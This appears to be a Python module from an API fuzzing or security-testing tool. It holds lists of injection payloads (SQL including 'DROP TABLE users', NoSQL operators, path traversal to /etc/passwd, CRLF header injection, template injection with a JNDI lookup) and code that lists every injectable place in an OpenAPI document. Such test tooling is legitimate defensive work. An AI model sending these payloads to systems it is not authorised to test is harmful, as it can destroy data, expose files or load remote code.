"""Attacks as text, by kind, and every place in a request that text can be put into."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Literal

Where = Literal["path", "query", "header", "body"]

PAYLOADS: dict[str, tuple[str, ...]] = {
    "sql": (
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "1); DELETE FROM products; --",
        '" OR ""="',
        "' UNION ALL SELECT NULL, NULL --",
        "\\' OR 1=1 #",
        "1 OR 1=1",
        "'||(sleep(9))||'",
    ),
    "operator": ('{"$gt": ""}', "$where", "$ne", "[$ne]", '{"$regex": ".*"}', "this.sku != 0", "'; return true; '"),
    "regular expression": (".*", "(a+)+$", "^", "[", "\\", "(?i)", "a{1,9999}", "|", "$"),
    "wildcard": ("%", "_", "%%%", "\\%", "[a-z]%", "*", "?", "__e_"),
    "header": ("a\r\nSet-Cookie: x=1", "a\nb: c", "a\r\n\r\n<p>", "%0d%0aSet-Cookie:x=1", "\tx"),
    "path": ("../../etc/passwd", "..\\..\\x", "/etc/passwd", "%2e%2e%2f", "file:" + "///etc/passwd", "..", "."),
    "format": ("%s%s%n", "{0.__class__}", "%(password)s", "{password_hash}", "{}", "%d", "{:999999999}"),
    "template": ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://example.test/a}", "{%print 7*7%}"),
}

OPERATORS: tuple[Any, ...] = ({"$gt": ""}, {"$ne": None}, {"$where": "1"}, [{"$ne": ""}], {"$regex": ".*"})
"""JSON values that some databases read as an operator, where a body has text or a number."""

BRACKETS = ("[$ne]", "[$gt]", "[$regex]", "[]", ".$where")
"""Suffixes of a parameter's name that some frameworks turn into such an operator."""


@dataclass(frozen=True, slots=True)
class Place:
    """A parameter, header or body field of an operation.

    Attributes:
        operation: method and path, as in the document.
        where: the part of the request.
        name: of the parameter, or the dotted path of the field.
        form: whether the body is a form.
    """

    operation: str
    where: Where
    name: str
    form: bool = False


def places(document: dict[str, Any]) -> Iterator[Place]:
    """Every place in the API's requests, whether it expects text or not."""
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            name = f"{method.upper()} {path}"
            for parameter in operation.get("parameters", ()):
                yield Place(name, parameter["in"], parameter["name"])
            for media_type, content in operation.get("requestBody", {}).get("content", {}).items():
                for field in _fields(document, content["schema"]):
                    yield Place(name, "body", field, form=media_type != "application/json")


def _fields(document: dict[str, Any], schema: dict[str, Any], path: str = "") -> Iterator[str]:
    """Dotted paths of the fields of a schema; an array's elements are represented by the first."""
    for one in (schema, *schema.get("anyOf", ())):
        if "$ref" in one:
            yield from _fields(document, document["components"]["schemas"][one["$ref"].rpartition("/")[2]], path)
        elif "items" in one:
            yield from list(_fields(document, one["items"], f"{path}0.")) or [f"{path}0"]
            if path:
                yield path.removesuffix(".")
        for name, field in one.get("properties", {}).items():
            inner = list(_fields(document, field, f"{path}{name}."))
            yield from inner or [f"{path}{name}"]
